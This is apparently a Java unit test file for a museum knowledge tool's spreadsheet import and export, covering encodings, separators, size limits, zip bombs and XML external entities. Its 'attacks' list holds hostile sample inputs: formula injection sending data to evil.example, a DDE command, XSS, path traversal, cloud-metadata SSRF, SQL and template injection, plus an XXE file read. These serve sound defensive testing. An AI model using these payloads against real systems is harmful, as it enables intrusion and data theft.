package museum.foyer.knowledge.tables;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import museum.foyer.knowledge.rules.FileError;
import museum.foyer.knowledge.rules.Findings;
import museum.foyer.knowledge.rules.InvalidKnowledgeFileException;
import museum.foyer.knowledge.rules.KnowledgeSchema;
import museum.foyer.knowledge.rules.Place;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Cells as spreadsheets of all countries write them, and as attackers do. */
class CellsTest {

  private static final KnowledgeSchema SCHEMA = KnowledgeSchema.load();
  private static final Tables TABLES = new Tables(SCHEMA);
  private static final String ACCENTS = "key,answer.fr\nlift,Déjà là – 12 €\n";

  static Stream<String> attacks() {
    return Stream.of(
        "=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "'=1+1",
        "''=1+1",
        "'quoted'",
        "＝1+1",
        "<script>alert(1)</script>",
        "</script><img src=x onerror=alert(1)>",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "http://169.254.169.254/latest/meta-data/",
        "http://[::ffff:127.0.0.1]:8080/",
        "http://2130706433/",
        "'; drop table item; --",
        "{{7*7}} ${7*7} #{7*7} {inject:bean}",
        "a,b;c\td\"e\"\r\nf",
        "_x000D_ and _x005F_x000D_",
        " a space before and after ",
        "\u0001\u000B\u007F\u0085\u2028\uFEFF\uFFFE",
        "𝄞 👩‍👩‍👧 العربية 日本語");
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void everyTextComesBackAsItWas(String text) {
    assertThat(answer(csv(museum(text), ','))).isEqualTo(text);
    assertThat(answer(csv(museum(text), ';'))).isEqualTo(text);
    assertThat(answerOfSpreadsheet(TABLES.xlsx(Table.FAQ, museum(text)))).isEqualTo(text);
  }

  @Test
  void anyMixtureOfCharactersComesBackAsItWas() {
    // Given
    String alphabet = "=+-@'\"\t\r\n,;_x000D_ aé日𝄞\u0001[]{}:#&<>＝";
    int[] characters = alphabet.codePoints().toArray();
    Random random = new Random(20261124);
    for (int i = 0; i < 500; i++) {
      StringBuilder text = new StringBuilder("x");
      random
          .ints(random.nextInt(12), 0, characters.length)
          .forEach(c -> text.appendCodePoint(characters[c]));
      String said = random.nextBoolean() ? text.toString() : text.reverse().toString();

      // When
      String fromCsv = answer(csv(museum(said), ",;\t".charAt(i % 3)));
      String fromSheet = answerOfSpreadsheet(TABLES.xlsx(Table.FAQ, museum(said)));

      // Then
      assertThat(fromCsv).isEqualTo(said);
      assertThat(fromSheet).isEqualTo(said);
    }
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void noCellOfAnExportBeginsAFormula(String text) throws IOException {
    // When
    List<String> cells = new ArrayList<>();
    String csv = new String(csv(museum(text), ','), StandardCharsets.UTF_8).substring(1);
    for (CSVRecord row : CSVParser.parse(new StringReader(csv), CSVFormat.RFC4180)) {
      row.forEach(cells::add);
    }
    byte[] sheet = TABLES.xlsx(Table.FAQ, museum(text));
    try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(sheet))) {
      for (Row row : workbook.getFirstSheet().read()) {
        row.stream().filter(cell -> cell != null).map(Cell::getText).forEach(cells::add);
      }
    }

    // Then
    assertThat(cells).isNotEmpty().noneMatch(cell -> cell.matches("(?s)[=+\\-@\\t\\r].*"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"UTF-8", "windows-1252", "ISO-8859-15"})
  void readsTheEncodingsOfWesternSpreadsheets(String charset) {
    // Given
    String text = charset.equals("ISO-8859-15") ? ACCENTS.replace("– 12 €", "") : ACCENTS;

    // When
    String answer = answer(text.getBytes(Charset.forName(charset)));

    // Then
    assertThat(answer).startsWith("Déjà là").isEqualTo(text.split("[,\n]")[3]);
  }

  @Test
  void readsWhatIsMarkedAsUnicode() {
    assertThat(answer(("\uFEFF" + ACCENTS).getBytes(StandardCharsets.UTF_8))).startsWith("Déjà");
    assertThat(answer(("\uFEFF" + ACCENTS).getBytes(StandardCharsets.UTF_16LE))).startsWith("Déjà");
    assertThat(answer(("\uFEFF" + ACCENTS).getBytes(StandardCharsets.UTF_16BE))).startsWith("Déjà");
  }

  @Test
  void refusesUnmarkedUtf16AndWhatIsNoText() {
    assertThat(refusal(ACCENTS.getBytes(StandardCharsets.UTF_16LE)).message())
        .contains("save the table as CSV in UTF-8");
    assertThat(refusal(new byte[] {'k', 'e', 'y', (byte) 0x81}).message())
        .contains("unknown encoding");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "key,answer.fr\nlift,\"a;b;c\"\n",
        "key;answer.fr\r\nlift;a,b,c\r\n",
        "key\tanswer.fr\nlift\ta,b;c",
        "sep=;\r\nkey;answer.fr\r\nlift;a,b\r\n",
        "\"key\";\"answer.fr\"\n\"lift\";\"a,\"\"b\"\"\nc\"",
        "\n\nkey"
      })
  void findsTheSeparator(String text) {
    if (text.startsWith("\n")) {
      assertThat(refusal(text.getBytes(StandardCharsets.UTF_8)).message()).contains("missing");
    } else {
      assertThat(answer(text.getBytes(StandardCharsets.UTF_8))).startsWith("a");
    }
  }

  @Test
  void tellsTheRowInWhichQuotesDoNotMatch() {
    assertThat(refusal("key,answer.fr\nlift,\"a\"b\n".getBytes(StandardCharsets.UTF_8)).place())
        .isEqualTo(new Place.Cell("faq", 2, ""));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "key,colour            | 'colour' is no column of it; it has key",
        "key,key               | 'key' is there twice",
      })
  void refusesColumnsItDoesNotKnow(String header, String words) {
    assertThat(refusal((header + "\n").getBytes(StandardCharsets.UTF_8)).message()).contains(words);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {"12,5 | 12.5", "12,50 | 12.50", "12.50 | 12.50", "1,250 | 1,250", "12,5 € | 12,5 €"})
  void aDecimalCommaIsOneOnlyWhereItCanBeNothingElse(String typed, String read) {
    // Given
    ObjectNode tree = new ObjectMapper().createObjectNode();
    byte[] file = ("key;price\nfull;" + typed + "\n").getBytes(StandardCharsets.UTF_8);

    // When
    TABLES.readCsv(file, Table.PRICES, Mode.MERGE, tree, new Findings());

    // Then
    assertThat(tree.at("/tickets/0/price").asText()).isEqualTo(read);
  }

  @Test
  void readsWhatExcelMadeOfNumbersDatesAndTimes() {
    // Given
    ObjectNode tree = new ObjectMapper().createObjectNode();
    byte[] file =
        workbook(
            sheet -> {
              titles(sheet, "key", "price", "ages.from", "validFrom", "when.from", "name.en");
              sheet.value(1, 0, "full");
              sheet.value(1, 1, 12.1);
              sheet.value(1, 2, 18);
              sheet.value(1, 3, LocalDate.of(2026, 12, 24));
              sheet.style(1, 3).format("dd/mm/yyyy").set();
              sheet.value(1, 4, 0.75);
              sheet.style(1, 4).format("hh:mm").set();
              sheet.value(1, 5, 2027);
            });

    // When
    TABLES.readXlsx(file, Table.PRICES, Mode.MERGE, tree, new Findings());

    // Then
    assertThat(tree.at("/tickets/0").toString())
        .isEqualTo(
            """
            {"key":"full","price":"12.1","ages":{"from":18},"validFrom":"2026-12-24",\
            "when":{"from":"18:00"},"name":{"en":"2027"}}""");
  }

  @Test
  void refusesWhatExcelMadeUnclearWithItsRowAndColumn() {
    // Given
    Findings findings = new Findings();
    byte[] file =
        workbook(
            sheet -> {
              titles(sheet, "key", "price", "ages.from", "validFrom", "when.from", "name.en");
              sheet.value(1, 0, "full");
              sheet.formula(1, 1, "6*2");
              sheet.value(1, 2, 18.5);
              sheet.value(1, 3, LocalDate.of(2026, 12, 24));
              sheet.style(1, 3).format("d-mmm").set();
              sheet.value(1, 4, 46_000);
              sheet.value(1, 5, LocalDate.of(2026, 12, 24));
              sheet.style(1, 5).format("d-mmm").set();
            });

    // When
    TABLES.readXlsx(
        file, Table.PRICES, Mode.MERGE, new ObjectMapper().createObjectNode(), findings);

    // Then
    assertThat(
            catchThrowableOfType(InvalidKnowledgeFileException.class, findings::refuseIfAny)
                .errors())
        .extracting(FileError::place)
        .containsExactlyInAnyOrder(
            new Place.Cell("faq", 2, "price"),
            new Place.Cell("faq", 2, "ages.from"),
            new Place.Cell("faq", 2, "validFrom"),
            new Place.Cell("faq", 2, "when.from"),
            new Place.Cell("faq", 2, "name.en"));
  }

  @Test
  void refusesArchivesThatGrow() throws IOException {
    assertThat(refusalOfSpreadsheet(zip(1, 40 << 20)).message()).contains("grows more than");
    assertThat(refusalOfSpreadsheet(zip(600, 10)).message()).contains("more than 500");
    assertThat(refusalOfSpreadsheet(new byte[] {'P', 'K', 3, 4, 0, 0}).message())
        .contains("not a spreadsheet");
    assertThat(refusalOfSpreadsheet(ACCENTS.getBytes(StandardCharsets.UTF_8)).message())
        .contains("not a spreadsheet");
  }

  @Test
  void refusesTablesThatAreTooLarge() {
    assertThat(refusal(("key\n" + "x".repeat(32_768)).getBytes(StandardCharsets.UTF_8)).message())
        .contains("32767 characters");
    assertThat(refusal(("key\n" + "x\n".repeat(50_000)).getBytes(StandardCharsets.UTF_8)).message())
        .contains("50000 rows");
    assertThat(refusal(",".repeat(2_001).getBytes(StandardCharsets.UTF_8)).message())
        .contains("2000 columns");
    assertThat(
            refusalOfSpreadsheet(
                    workbook(
                        sheet -> {
                          titles(sheet, "key");
                          sheet.value(60_000, 0, "far");
                        }))
                .message())
        .contains("50000 rows");
  }

  @Test
  void aWorkbookFetchesNothing() throws IOException {
    // Given
    byte[] sheet = TABLES.xlsx(Table.FAQ, museum("harmless"));
    byte[] attack =
        replaced(
            sheet,
            "xl/worksheets/sheet1.xml",
            """
            <?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>
            <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
            <row r="1"><c r="A1" t="inlineStr"><is><t>key</t></is></c></row>
            <row r="2"><c r="A2" t="inlineStr"><is><t>&e;</t></is></c></row>
            </sheetData></worksheet>""");

    // When
    ObjectNode tree = new ObjectMapper().createObjectNode();
    InvalidKnowledgeFileException refused =
        catchThrowableOfType(
            InvalidKnowledgeFileException.class,
            () -> TABLES.readXlsx(attack, Table.FAQ, Mode.MERGE, tree, new Findings()));

    // Then
    assertThat(refused != null || tree.at("/faq/0/key").asText().isEmpty()).isTrue();
  }

  private static ObjectNode museum(String answer) {
    ObjectNode tree = new ObjectMapper().createObjectNode();
    ObjectNode entry = tree.putArray("faq").addObject().put("key", "lift");
    ObjectNode french = entry.putObject("translations").putObject("fr");
    french.putArray("questions").add(answer).add("second");
    french.put("answer", answer);
    return tree;
  }

  private static byte[] csv(ObjectNode tree, char separator) {
    return TABLES.csv(Table.FAQ, tree, separator);
  }

  private static String answer(byte[] csv) {
    ObjectNode tree = new ObjectMapper().createObjectNode();
    TABLES.readCsv(csv, Table.FAQ, Mode.MERGE, tree, new Findings());
    return answer(tree);
  }

  private static String answerOfSpreadsheet(byte[] xlsx) {
    ObjectNode tree = new ObjectMapper().createObjectNode();
    TABLES.readXlsx(xlsx, Table.FAQ, Mode.MERGE, tree, new Findings());
    return answer(tree);
  }

  private static String answer(ObjectNode tree) {
    return tree.at("/faq/0/translations/fr/answer").asText();
  }

  private static FileError refusal(byte[] csv) {
    return catchThrowableOfType(InvalidKnowledgeFileException.class, () -> answer(csv))
        .errors()
        .get(0);
  }

  private static FileError refusalOfSpreadsheet(byte[] xlsx) {
    return catchThrowableOfType(
            InvalidKnowledgeFileException.class, () -> answerOfSpreadsheet(xlsx))
        .errors()
        .get(0);
  }

  private static byte[] workbook(Consumer<Worksheet> content) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (Workbook workbook = new Workbook(bytes, "Test", null)) {
      content.accept(workbook.newWorksheet("faq"));
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
    return bytes.toByteArray();
  }

  private static void titles(Worksheet sheet, String... titles) {
    for (int c = 0; c < titles.length; c++) {
      sheet.value(0, c, titles[c]);
    }
  }

  private static byte[] zip(int parts, int size) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (int i = 0; i < parts; i++) {
        zip.putNextEntry(new ZipEntry("part" + i));
        zip.write(new byte[size]);
      }
    }
    return bytes.toByteArray();
  }

  private static byte[] replaced(byte[] archive, String part, String text) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (org.apache.commons.compress.archivers.zip.ZipFile from =
            org.apache.commons.compress.archivers.zip.ZipFile.builder()
                .setByteArray(archive)
                .get();
        ZipOutputStream to = new ZipOutputStream(bytes)) {
      for (var entry : java.util.Collections.list(from.getEntries())) {
        to.putNextEntry(new ZipEntry(entry.getName()));
        to.write(
            entry.getName().equals(part)
                ? text.getBytes(StandardCharsets.UTF_8)
                : from.getInputStream(entry).readAllBytes());
      }
    }
    return bytes.toByteArray();
  }
}
